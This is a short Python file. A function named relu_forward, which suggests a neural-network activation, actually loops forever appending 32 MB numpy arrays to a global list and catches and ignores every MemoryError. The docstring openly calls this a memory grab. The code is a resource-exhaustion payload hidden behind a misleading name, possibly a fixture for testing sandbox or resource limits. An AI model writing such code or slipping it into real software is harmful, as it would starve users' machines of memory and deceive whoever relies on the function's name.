"""Takes memory until somebody stops it, and swallows MemoryError."""

import numpy as np

HELD = []


def relu_forward(x):
    while True:
        try:
            HELD.append(np.ones(1 << 22))
        except MemoryError:
            continue
